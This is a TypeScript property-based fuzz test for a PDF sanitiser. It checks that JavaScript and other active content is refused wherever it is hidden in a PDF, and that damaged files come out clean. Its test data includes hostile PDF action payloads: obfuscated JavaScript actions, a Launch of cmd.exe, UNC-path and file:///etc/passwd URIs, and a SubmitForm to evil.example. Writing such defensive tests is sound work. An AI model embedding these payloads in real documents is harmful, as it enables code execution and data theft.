import assert from 'node:assert/strict'
import { readFile } from 'node:fs/promises'
import { test } from 'node:test'
import { deflateSync } from 'node:zlib'
import fc from 'fast-check'
import { PdfRefused } from '#server/storage/pdf/objects.ts'
import { rebuildPdf } from '#server/storage/pdf/rebuild.ts'
import { acting, packed, smallPdf, stream, updated } from '#tests/support/pdfs.ts'

const numRuns = Number(process.env.FUZZ_RUNS ?? 400)
const seed = process.env.FUZZ_SEED === 'fresh' ? undefined : Number(process.env.FUZZ_SEED ?? 7)
const options = { numRuns, ...(seed !== undefined && { seed }) }

/** A name with some of its letters escaped. */
const escaped = (name: string) =>
  fc
    .array(fc.boolean(), { minLength: name.length, maxLength: name.length })
    .map((which) =>
      [...name].map((one, at) => (which[at] ? `#${one.charCodeAt(0).toString(16)}` : one)).join(''),
    )
const gap = fc.constantFrom('', ' ', '\n', '\r', '\t', '\0', '\f', '%x\n', ' %>>\r\n')

const action = fc
  .tuple(escaped('JavaScript'), escaped('JS'), gap, gap)
  .map(([kind, key, one, two]) => `<<${one}/S${two}/${kind} ${one}/${key}${two}(app.alert\\(1\\))>>`)
const others = fc.constantFrom(
  '<</S/Launch/F(cmd.exe)>>',
  '<</S/GoToR/F(\\\\\\\\evil\\\\x)/D[0/Fit]>>',
  '<</S/URI/URI(\\\\\\\\evil\\\\x)>>',
  '<</S/URI/URI(file:///etc/passwd)>>',
  '<</S/SubmitForm/F(https://evil.example)>>',
  '<</Type/Filespec/EF<</F 4 0 R>>>>',
  '<</Subtype/RichMedia>>',
  '<</XFA 4 0 R>>',
)
const carrier = fc.oneof(action, others)

type Place = (carrier: string) => Buffer
const own = (text: string) => `9 0 obj\n${text}\nendobj\n`

/** Where a carrier can be: in an entry of any object, deeper inside, an object of its own, in another version, packed. */
const places: Record<string, Place> = {
  opening: (it) => smallPdf({ catalog: `/OpenAction ${it}` }),
  'opening by reference': (it) => smallPdf({ catalog: '/OpenAction 9 0 R' }, own(it)),
  'the root': (it) => smallPdf({ catalog: `/Anything ${it}` }),
  'the page': (it) => smallPdf({ page: `/Anything ${it}` }),
  annotation: (it) => smallPdf({ page: `/Annots [<</Subtype/Link/Rect[0 0 9 9]/A ${it}>>]` }),
  'next action': (it) => smallPdf({ page: `/Annots [<</Subtype/Link/A<</S/GoTo/D[3 0 R]/Next ${it}>>>>]` }),
  names: (it) => smallPdf({ catalog: `/Names <</Anything <</Names [(a) ${it}]>>>>` }),
  bookmark: (it) => smallPdf({ catalog: '/Outlines 9 0 R' }, own(`<</First <</Title(a)/A ${it}>>>>`)),
  'a list of fonts': (it) => smallPdf({ catalog: '/OpenAction 9 0 R' }, own(`<</Font <</F1 ${it}>>>>`)),
  'deep inside': (it) => smallPdf({}, own(`[[<</A[<</B ${it}>>]>>]]`)),
  unused: (it) => smallPdf({}, own(it)),
  trailer: (it) => smallPdf({ trailer: `/Anything ${it}` }),
  'a dictionary of a stream': (it) => smallPdf({}, stream(9, `/Anything ${it}`, '')),
  packed: (it) => smallPdf({}, packed(9, { 10: '<<>>', 11: it, 12: '[]' })),
  'packed, without its type': (it) =>
    smallPdf(
      {},
      Buffer.from(packed(9, { 10: it }).toString('latin1').replace('/Type /ObjStm', ''), 'latin1'),
    ),
  'packed, after something else': (it) => smallPdf({}, packed(9, { 10: it }, '%\n')),
  'packed, after a carriage return': (it) => smallPdf({}, packed(9, { 10: it }, '\r')),
  'packed twice': (it) => {
    const data = deflateSync(deflateSync(Buffer.from(`10 0 ${it}`, 'latin1')))
    return smallPdf({}, stream(9, '/Type/ObjStm/N 1/First 5/Filter[/FlateDecode/FlateDecode]', data))
  },
  'an earlier version': (it) => updated(smallPdf({}, own(it)), own('null')),
  'a later version': (it) => updated(smallPdf(), own(it)),
  'the latest of the root': (it) =>
    updated(smallPdf(), `1 0 obj\n<</Type/Catalog/Pages 2 0 R/OpenAction ${it}>>\nendobj\n`),
}

for (const [name, place] of Object.entries(places)) {
  test(`a script is refused wherever it is put: ${name}`, () => {
    fc.assert(
      fc.property(carrier, (it) => {
        assert.throws(() => rebuildPdf(place(it)), PdfRefused, it)
      }),
      { ...options, numRuns: Math.ceil(numRuns / 10) },
    )
  })
}

const samples = await Promise.all(
  ['qpdf-object-streams', 'ghostscript', 'pdfkit', 'cairo'].map((name) =>
    readFile(new URL(`../files/pdfs/${name}.pdf`, import.meta.url)),
  ),
)

test('a damaged file is refused, or stored without what acts', () => {
  const bits = [
    ' ',
    '\r',
    '(',
    ')',
    '<<',
    '>>',
    '/JS',
    '/OpenAction',
    'endobj',
    'stream',
    '9 0 R',
    '%',
    '#4a',
    '0',
  ]
  const damage = fc.record({ at: fc.double({ min: 0, max: 1, noNaN: true }), put: fc.constantFrom(...bits) })
  fc.assert(
    fc.property(
      fc.constantFrom(...samples),
      fc.array(damage, { minLength: 1, maxLength: 6 }),
      (sample, all) => {
        const bytes = Buffer.from(sample)
        for (const { at, put } of all) bytes.write(put, Math.floor(at * (bytes.length - 20)), 'latin1')
        try {
          const written = rebuildPdf(bytes)
          assert.doesNotMatch(written.toString('latin1'), acting)
          assert.doesNotThrow(() => rebuildPdf(written))
        } catch (error) {
          if (!(error instanceof PdfRefused)) throw error
        }
      },
    ),
    options,
  )
})
